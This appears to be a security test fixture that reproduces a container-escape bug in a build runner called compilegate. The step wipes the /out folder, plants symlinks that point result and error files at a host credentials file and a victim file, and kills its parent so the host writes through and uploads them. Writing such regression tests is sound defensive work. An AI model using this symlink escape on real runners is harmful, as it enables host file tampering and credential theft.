"""A hostile step that tries to get out through the run's output folder (/out in a container).

Reproduces the escape of issue 13: it deletes what compilegate wrote there, plants links in
its place — `error.txt` to a host file the host would then write through, `result.json` and
`leak.json` to a host file with credentials the host would read back and upload — and kills
its compilegate, so that the host finds no result and writes `error.txt` itself. The host
paths are known to an attacker (the runner's layout; /proc/self/mountinfo names the folder's
own host path); here they come from ESCAPE_TARGETS_DIR. compilegate must follow none of it.
"""

import os
import signal
import time


def make_step(device="cpu"):
    targets = os.environ["ESCAPE_TARGETS_DIR"]
    out = os.environ.get("ESCAPE_OUT_DIR", "/out")
    for name in os.listdir(out):
        path = os.path.join(out, name)
        if os.path.isfile(path) or os.path.islink(path):
            os.remove(path)
    os.symlink(os.path.join(targets, "victim.txt"), os.path.join(out, "error.txt"))
    os.symlink(os.path.join(targets, "credentials"), os.path.join(out, "result.json"))
    os.symlink(os.path.join(targets, "credentials"), os.path.join(out, "leak.json"))
    os.symlink(targets, os.path.join(out, "host"))
    os.kill(os.getppid(), signal.SIGKILL)  # its compilegate: no result, the host takes over
    time.sleep(60)
    raise SystemExit("still alive")
